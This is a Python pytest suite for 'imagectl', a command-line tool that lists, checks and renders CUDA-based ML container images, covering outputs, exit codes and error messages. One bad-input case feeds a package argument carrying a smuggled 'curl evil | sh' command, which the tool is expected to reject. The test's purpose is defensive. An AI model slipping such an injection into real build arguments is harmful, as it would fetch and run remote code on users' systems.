"""The command line through ``main``: output shapes, exit statuses, and one-line errors."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]


def one_line_error(result) -> str:
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("imagectl: "), result.err
    assert "Traceback" not in result.err
    return lines[0]


def test_list_json_has_names(run_cli):
    r = run_cli("list", "--json")
    assert r.code == 0
    rows = json.loads(r.out)
    names = {row["name"] for row in rows}
    assert "torch-2.3-cu121" in names and all("name" in row for row in rows)


def test_list_table_and_framework_filter(run_cli):
    r = run_cli("list", "--framework", "torch")
    assert r.code == 0 and r.out.splitlines()[0].split()[0] == "NAME" and "torch-2.3-cu121" in r.out
    unknown = run_cli("list", "--framework", "caffe")
    assert unknown.code == 2
    assert one_line_error(unknown) == "imagectl: --framework 'caffe': not in the matrix (jax, torch)"


def test_show_json_keys(run_cli):
    r = run_cli("show", "torch-2.3-cu121", "--json")
    assert r.code == 0
    info = json.loads(r.out)
    for key in ("name", "framework", "framework_version", "cuda", "cudnn", "nccl", "python", "python_supported",
                "base_image", "min_driver", "packages", "image"):
        assert key in info
    assert info["framework_version"] == "2.3.1" and info["cuda"] == "12.1"
    assert info["cudnn"] == "8.9.2.26" and info["nccl"] == "2.20.5"
    assert info["packages"]["torch"] == "2.3.1" and info["packages"]["nvidia-nccl-cu12"] == "2.20.5"
    assert info["image"] == "localhost/imagectl/torch-2.3-cu121:latest"
    assert info["base_image"].startswith("docker.io/nvidia/cuda:12.1")


def test_show_image_uses_configured_registry(run_cli, tmp_path):
    (tmp_path / "imagectl.toml").write_text('[registry]\nurl = "registry.example.com:5000"\nnamespace = "ml"\n'
                                            '[mirrors]\n"docker.io" = "mirror.example.com/hub"\n')
    info = json.loads(run_cli("show", "torch-2.3-cu121", "--python", "3.11", "--json").out)
    assert info["image"] == "registry.example.com:5000/ml/torch-2.3-cu121-py3.11:latest"
    assert info["python"] == "3.11" and info["base_image_pull"].startswith("mirror.example.com/hub/nvidia/cuda:12.1")


@pytest.mark.parametrize("args, fragment", [
    (("show", "torch-2.3-cu999"), "closest: torch-2.3-cu1"),
    (("show", "torch-9.9-cu121"), "names no torch release 9.9"),
    (("show", "torch-2.3-cu121", "--python", "three"), "--python"),
    (("render", "torch-2.3-cu121", "--extra", "numpy; curl evil | sh"), "--extra"),
    (("compat", "--driver", "new"), "--driver"),
    (("check", "torch==2.3.1", "cuda=x"), "check: cuda"),
    (("nosuchcommand",), "No such command"),
    (("show",), "Missing argument"),
])
def test_bad_input_is_one_line_exit_2(run_cli, args, fragment):
    r = run_cli(*args)
    assert r.code == 2
    assert fragment in one_line_error(r)


def test_bad_config_is_one_line_exit_2(run_cli, tmp_path):
    (tmp_path / "imagectl.toml").write_text("[registry]\nurl = 'bad host'\n")
    assert "imagectl.toml: [registry] url" in one_line_error(r := run_cli("list")) and r.code == 2
    assert run_cli("--config", "missing.toml", "list").code == 2


def test_validate_shipped_matrix_holds(run_cli):
    r = run_cli("validate")
    assert r.code == 0, r.out
    assert "0 violations" in r.err


def test_validate_reports_violations_exit_1(run_cli, tmp_path):
    mine = tmp_path / "mine"
    mine.mkdir()
    torch = (REPO / "tests/fixtures/matrices/torch.toml").read_text()
    torch = torch.replace('cudnn = "8.7.0.84"', 'cudnn = "8.9.7.29"')
    (mine / "torch.toml").write_text(torch)
    (mine / "cuda.toml").write_text((REPO / "tests/fixtures/matrices/cuda.toml").read_text())
    (tmp_path / "imagectl.toml").write_text('[paths]\nmatrices = ["mine"]\n')
    r = run_cli("validate", "--junit", "out.xml")
    assert r.code == 1
    assert "[cudnn-pin-agrees] cudnn = 8.9.7.29 but pins say nvidia-cudnn-cu11==8.7.0.84" in r.out
    assert "mine/torch.toml" in r.out
    assert b"<failure" in (tmp_path / "out.xml").read_bytes()


def test_validate_unreadable_matrix_exit_2(run_cli, tmp_path):
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "broken.toml").write_text("[framework\n")
    (tmp_path / "imagectl.toml").write_text('[paths]\nmatrices = ["mine"]\n')
    r = run_cli("validate")
    assert r.code == 2 and "broken.toml:1: invalid TOML" in one_line_error(r)


def test_compat(run_cli):
    r = run_cli("compat", "--driver", "450.80.02", "--json")
    verdicts = {v["name"]: v for v in json.loads(r.out)}
    assert r.code == 0 and not verdicts["torch-2.3-cu121"]["compatible"]
    assert "below CUDA 12.1's driver branch R530" in verdicts["torch-2.3-cu121"]["reasons"][0]
    r = run_cli("compat", "--driver", "570.124.06", "--gpu", "sm_100", "--all")
    assert "no    torch-2.3-cu121: sm_100 cannot run torch 2.3.1+cu121" in r.out
    runnable = run_cli("compat", "--driver", "570.124.06", "--gpu", "sm_100")
    table = runnable.out.split("\n\nnotes:\n")[0]  # a note several rows share follows the table, once
    assert table and all(line.startswith("ok    ") for line in table.splitlines())
    assert "listed: those that can run (--all: also why the others cannot)" in runnable.err
    best = run_cli("compat", "--driver", "570.124.06", "--gpu", "sm_100", "--best", "--json")
    names = [v["name"] for v in json.loads(best.out)]
    assert best.code == 0 and len(names) == len({n.split("-")[0] for n in names}) >= 1  # one per framework
    assert names[0] == next(line.split()[1] for line in runnable.out.splitlines()
                            if line.split()[1].startswith(names[0].split("-")[0] + "-"))  # the newest that runs


def test_list_filters(run_cli):
    rows = json.loads(run_cli("list", "--cuda", "12.1", "--python", "3.10", "--flavor", "runtime", "--json").out)
    assert rows and all(r["cuda"] == "12.1" and r["python"] == "3.10" and r["flavor"] == "runtime" for r in rows)
    assert all(r["cuda"].split(".")[0] == "12" for r in json.loads(run_cli("list", "--cuda", "12", "--json").out))
    newest = json.loads(run_cli("list", "--newest", "--json").out)
    everything = json.loads(run_cli("list", "--json").out)
    for fw in {r["framework"] for r in everything}:
        top = max(tuple(map(int, r["framework_version"].split(".")[:2])) for r in everything if r["framework"] == fw)
        assert {tuple(map(int, r["framework_version"].split(".")[:2])) for r in newest if r["framework"] == fw} == {top}
    assert run_cli("list", "--flavor", "nope").code == 2 and run_cli("list", "--cuda", "x").code == 2


def test_compat_without_driver_or_nvidia_smi(run_cli, monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    r = run_cli("compat")
    assert r.code == 2 and "nvidia-smi" in one_line_error(r)


def test_check_exit_codes(run_cli):
    ok = run_cli("check", "torch==2.3.1", "cuda=12.1", "python=3.11", "nccl=2.20.5")
    assert ok.code == 0 and ok.out.startswith("compatible")
    bad = run_cli("check", "torch==2.3.1", "cuda=12.1", "python=3.11", "nccl=2.19.3", "--json")
    assert bad.code == 1 and json.loads(bad.out)["compatible"] is False
    # torch 2.3.1 has cp312 wheels, but no OS of CUDA 12.1's base images has Python 3.12 (python-available)
    no_os = run_cli("check", "torch==2.3.1", "cuda=12.1", "python=3.12", "--json")
    verdict = json.loads(no_os.out)
    assert no_os.code == 1 and verdict["profile"] is None
    assert verdict["reasons"] == ["Python 3.12 comes neither as python3 nor from the archive of any OS of CUDA 12.1's"
                                  " base images (ubuntu22.04 has 3.10, 3.11; ubuntu20.04 has 3.8, 3.9)"]


def test_render_prints_and_writes_context(run_cli, tmp_path):
    r = run_cli("render", "torch-2.3-cu121")
    assert r.code == 0 and r.out.startswith("# Rendered by imagectl")
    assert "\nFROM docker.io/nvidia/cuda:12.1.1-base-ubuntu22.04\n" in r.out  # its pins bring nvidia-* wheels
    runtime = run_cli("render", "torch-2.3-cu121-runtime")
    assert runtime.code == 0 and "\nFROM docker.io/nvidia/cuda:12.1.1-runtime-ubuntu22.04\n" in runtime.out
    r = run_cli("render", "torch-2.3-cu121", "-o", "ctx")
    assert r.code == 0
    assert (tmp_path / "ctx" / "Dockerfile").is_file() and (tmp_path / "ctx" / "lock.txt").is_file()


def test_module_entry_point_and_no_docker_import():
    code = ("import sys; from imagectl.cli import main; rc = main(['show', 'torch-2.3-cu121', '--json']); "
            "sys.stderr.write('DOCKER=%s' % ('docker' in sys.modules)); sys.exit(rc)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == 0 and "DOCKER=False" in proc.stderr
    proc = subprocess.run([sys.executable, "-m", "imagectl", "--version"], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == 0 and "imagectl" in proc.stdout


def test_show_and_list_give_the_driver_floor_of_the_cuda_the_lock_installs(run_cli):
    """JAX's cuda12 plugin takes the newest CUDA 12 wheels: its shipped lock installs CUDA 12.9, whose floor
    (575.57.08) show and list give, not the nominal 12.6's (560.35.05); a torch build pins its runtime."""
    info = json.loads(run_cli("show", "jax-0.12-cuda12", "--json").out)
    assert info["cuda"] == "12.6" and info["min_driver"] == "575.57.08"
    assert any("follow CUDA 12.9, not the nominal 12.6" in note for note in info["notes"])
    rows = {r["name"]: r for r in json.loads(run_cli("list", "--framework", "jax", "--json").out)}
    assert rows["jax-0.12-cuda12"]["min_driver"] == "575.57.08"
    assert json.loads(run_cli("show", "torch-2.3-cu121", "--json").out)["min_driver"] == "530.30.02"
